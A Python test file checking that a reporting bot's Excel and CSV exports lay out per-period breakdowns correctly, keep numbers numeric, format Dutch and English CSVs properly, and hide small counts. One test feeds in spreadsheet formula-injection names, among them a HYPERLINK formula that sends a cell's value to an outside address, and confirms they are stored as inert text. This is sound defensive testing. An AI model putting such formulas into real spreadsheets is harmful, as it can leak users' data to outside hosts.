"""The coordinator's KMTM export, read back the way a spreadsheet reads it: a workbook
with every breakdown of the period on its own sheet, numbers as numbers, the period's
dates and how to read the numbers on every sheet, no cell that runs as a formula; and a
CSV whose bytes open in Dutch Excel (UTF-8 mark, semicolons, decimal commas)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from tests.services.kmtm.steps import (
    AFTER,
    AMS,
    RULE,
    close,
    log_plan,
    members,
    network_of_five,
    period,
    small_closed_period,
)
from vcpbot.db import Database
from vcpbot.db.kmtm import Dimension, KmtmPeriod, KmtmRelease
from vcpbot.db.network import Association
from vcpbot.i18n import t
from vcpbot.services import kmtm
from vcpbot.services.kmtm import _export as kmtm_export
from vcpbot.services.kmtm import _report as kmtm_report

BOM = b"\xef\xbb\xbf"
BREAKDOWNS = ("category", "relation", "follow_up", "association")


async def _export(db: Database, by: str, name: str = "KMTM 2026") -> list[kmtm.Report]:
    async with db.sessions.begin() as session:
        return await kmtm_report.period_reports(
            session, period_name=name, dimension=by, now=AFTER, zone=AMS, **RULE
        )


def _sheet_name(dimension: str, locale: str = "nl") -> str:
    return t(f"kmtm.dimension.{dimension}", locale)[:31]


def _rows(sheet) -> list[list[object]]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _table(sheet) -> dict[object, object]:
    """Label -> count, from the header row down to the total."""
    rows = _rows(sheet)
    start = next(i for i, row in enumerate(rows) if row[1] == t("kmtm.report.count_axis", "nl"))
    found = {}
    for row in rows[start + 1 :]:
        if row[0] is None:
            break
        found[row[0]] = row[1]
    return found


async def _rated_period(db: Database) -> None:
    """Sixteen contacts from three associations that all gave their member count."""
    await network_of_five(db)
    await period(db)
    await log_plan(db, [(1001, "advice")] * 6 + [(1002, "bullying")] * 5 + [(1003, "advice")] * 5)
    for guild, count in ((1001, 420), (1002, 310), (1003, 260)):
        await members(db, guild, count)
    await close(db)


async def test_the_workbook_has_every_breakdown_of_the_period_on_its_own_sheet(
    db: Database,
) -> None:
    await small_closed_period(db)
    reports = await _export(db, "relation")
    data = kmtm_export.export_xlsx(reports, locale="nl", active=Dimension.RELATION)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == [_sheet_name(d) for d in BREAKDOWNS]
    # The one asked for opens first.
    assert book.active.title == _sheet_name("relation")
    category = book[_sheet_name("category")]
    table = _table(category)
    assert table["Seksueel geweld, fysiek"] == 7
    assert table["Adviesvraag of zorg"] == "*"
    assert table["Totaal"] == 14
    # Numbers are numbers, not text that looks like one.
    cells = {c.value: c for row in category.iter_rows() for c in row if c.value in (7, 14)}
    assert {c.data_type for c in cells.values()} == {"n"}
    for sheet in book.worksheets:
        text = "\n".join(str(v) for row in _rows(sheet) for v in row if v is not None)
        assert "zaterdag 1 augustus 2026 t/m woensdag 30 september 2026" in text, sheet.title
        assert "5 verenigingen deden mee" in text
        assert "* verborgen: minder dan 5" in text
        assert "Vrijgegeven op vrijdag 2 oktober 2026" in text
    by_association = _table(book[_sheet_name("association")])
    assert set(by_association.values()) == {"*", 14}
    # One release of the period, as for a report: its four breakdowns, once each.
    async with db.sessions.begin() as session:
        assert await session.scalar(select(func.count()).select_from(KmtmRelease)) == 4


async def test_the_year_table_gets_its_own_sheet_with_rates_as_numbers(db: Database) -> None:
    await _rated_period(db)
    reports = await _export(db, "year")
    data = kmtm_export.export_xlsx(reports, locale="en", active=Dimension.YEAR)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == [_sheet_name(d, "en") for d in (*BREAKDOWNS, "year")]
    assert book.active.title == _sheet_name("year", "en")
    rows = _rows(book.active)
    [row] = [r for r in rows if r[0] == "KMTM 2026"]
    # 16 contacts among 990 members.
    assert row[1:3] == [16, 16.2]
    [rate] = [c for r in book.active.iter_rows() for c in r if c.value == 16.2]
    assert rate.number_format == "0.0"


FORMULA_NAMES = [
    '=HYPERLINK("https://example.org/?d="&A1,"Klik")',
    "+31 6 12345678",
    "-1+2",
    "@SUM(A1:A9)",
]


@pytest.mark.parametrize("name", FORMULA_NAMES)
async def test_no_name_in_the_workbook_can_run_as_a_formula(db: Database, name: str) -> None:
    """Boards name their associations, the coordinator the period: whatever a name starts
    with, the spreadsheet shows it as text and runs nothing."""
    ids = await network_of_five(db)
    await period(db)
    await log_plan(db, [(1001, "advice")] * 6 + [(1002, "advice")] * 5 + [(1003, "advice")] * 5)
    await close(db)
    async with db.sessions.begin() as session:
        await session.execute(
            update(Association).where(Association.id == ids[1001]).values(name=name + "\x07")
        )
        await session.execute(update(KmtmPeriod).values(name=name))
    data = kmtm_export.export_xlsx(await _export(db, "association", name), locale="nl")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not [s for s in sheets if b"<f>" in s or b"<f " in s]
    book = load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert not [v for v in texts if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # The name is there, as text (the character no spreadsheet can hold is dropped).
    assert "'" + name in texts
    assert "'" + t("kmtm.report.title.association", "nl", period=name) in texts


async def test_the_dutch_csv_opens_in_dutch_excel(db: Database) -> None:
    """Dutch Excel splits on semicolons and reads decimal commas; the UTF-8 mark keeps
    accented names whole. No "sep=" line: with it, Excel ignores the UTF-8 mark."""
    await _rated_period(db)
    reports = {r.dimension: r for r in await _export(db, "year")}
    data = kmtm_export.export_csv(reports[Dimension.YEAR], locale="nl")
    assert data.startswith(BOM)
    assert not data[3:].startswith(b"sep=")
    text = data[3:].decode("utf-8")
    header = text.splitlines()[0]
    assert header == "period;breakdown;key;label;count;status;per_1000_members"
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert {r["key"]: r["per_1000_members"] for r in rows} == {"KMTM 2026": "16,2"}
    assert rows[0]["count"] == "16"
    categories = kmtm_export.export_csv(reports[Dimension.CATEGORY], locale="nl")
    assert "Adviesvraag of zorg;" in categories[3:].decode("utf-8")


async def test_the_english_csv_keeps_commas_and_decimal_points(db: Database) -> None:
    await _rated_period(db)
    reports = {r.dimension: r for r in await _export(db, "year")}
    data = kmtm_export.export_csv(reports[Dimension.YEAR], locale="en")
    assert data.startswith(BOM)
    text = data[3:].decode("utf-8")
    assert text.splitlines()[0] == "period,breakdown,key,label,count,status,per_1000_members"
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["key"]: r["per_1000_members"] for r in rows} == {"KMTM 2026": "16.2"}


async def test_an_export_of_a_period_with_few_contacts_shows_only_markers(db: Database) -> None:
    await network_of_five(db)
    await period(db)
    await log_plan(db, [(1001, "advice"), (1002, "advice"), (1003, "advice")])
    await close(db)
    book = load_workbook(
        io.BytesIO(kmtm_export.export_xlsx(await _export(db, "category"), locale="en"))
    )
    for sheet in book.worksheets:
        values = [v for row in _rows(sheet) for v in row]
        assert not [v for v in values if isinstance(v, int | float)], sheet.title
        assert "fewer than 5" in values
